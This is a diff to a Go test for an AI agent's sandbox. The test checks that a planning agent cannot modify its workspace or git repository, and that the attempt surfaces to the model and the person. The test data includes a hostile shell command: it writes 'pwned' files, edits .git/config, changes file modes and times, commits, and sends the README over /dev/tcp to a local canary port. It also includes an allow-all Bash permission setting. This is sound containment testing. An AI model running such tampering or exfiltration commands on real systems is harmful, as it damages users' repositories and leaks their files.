@@ -67,11 +67,14 @@ func treeHash(t testing.TB, dir string) string {
 const hostileClaudeSettings = `{"permissions": {"allow": ["Bash"]}}`
 
 // unaskedCommand writes a new file, rewrites a tracked one, makes a
-// directory, writes .git/config and commits: every kind of change to the
-// workspace and its repository; and it sends the README to a local port
+// directory, writes .git/config, changes a tracked file's mode (git
+// records the x bit) and a file's times, and commits: every kind of
+// change to the workspace and its repository, its metadata included; and
+// it sends the README to a local port
 // that is not the model's (exfiltration).
 func unaskedCommand(canaryPort string) string {
 	return `touch pwned.txt; echo pwned >> README; mkdir newdir; echo '[core]' >> .git/config; ` +
+		`chmod +x README; touch -d @1 .git/HEAD; ` +
 		`git -c user.name=x -c user.email=x@x commit -q --allow-empty -m pwned; ls pwned.txt newdir; ` +
 		`(exec 3<>/dev/tcp/127.0.0.1/` + canaryPort + ` && printf 'GET /leak HTTP/1.0\r\n\r\n' >&3 && cat README >&3 && cat <&3 >/dev/null) || echo exfiltration-failed`
 }
@@ -111,7 +114,9 @@ func serverPort(t testing.TB, url string) string {
 // change the workspace and its .git. The agent runs it itself (no
 // permission request reaches planbridge: nothing is asked, nothing
 // counted by the gate), and the Plan agent process's confinement makes
-// every write fail with EACCES: the tree, .git included, is byte-identical
+// every write fail (EROFS: its mounts are read-only but its own
+// directories; Landlock denies the same writes beneath): the tree, .git
+// included, is byte-identical, modes and times too,
 // afterwards, the failure reaches the model and the card, and the plan
 // arrives on the approval card. Accepted in ask mode, the implementation's
 // agent (a separate, unconfined process) writes after the person allows
@@ -188,8 +193,9 @@ func testACPClaudeUnasked(t *testing.T, unprivileged bool) {
 	}
 	// The attempt ran and failed on the OS layer: the model saw it.
 	res := fake.result("toolu_plan_unasked")
-	for _, want := range []string{"touch: cannot touch 'pwned.txt': Permission denied", "README: Permission denied",
-		"mkdir: cannot create directory", ".git/config: Permission denied", ".git/index.lock': Permission denied",
+	for _, want := range []string{"touch: cannot touch 'pwned.txt': Read-only file system", "README: Read-only file system",
+		"mkdir: cannot create directory", ".git/config: Read-only file system", ".git/index.lock': Read-only file system",
+		"changing permissions of 'README': Read-only file system", "touch: cannot touch '.git/HEAD': Read-only file system",
 		"/dev/tcp/127.0.0.1/" + serverPort(t, leakSrv.URL) + ": Permission denied", "exfiltration-failed"} {
 		if !strings.Contains(res, want) {
 			dump()
@@ -199,7 +205,7 @@ func testACPClaudeUnasked(t *testing.T, unprivileged bool) {
 	// And the person sees it: the Bash call's result on the transcript.
 	var shown bool
 	for _, e := range p.c.Events() {
-		if e.Kind == "tool_result" && strings.Contains(string(e.Data), "pwned.txt") && strings.Contains(string(e.Data), "Permission denied") {
+		if e.Kind == "tool_result" && strings.Contains(string(e.Data), "pwned.txt") && strings.Contains(string(e.Data), "Read-only file system") {
 			shown = true
 		}
 	}
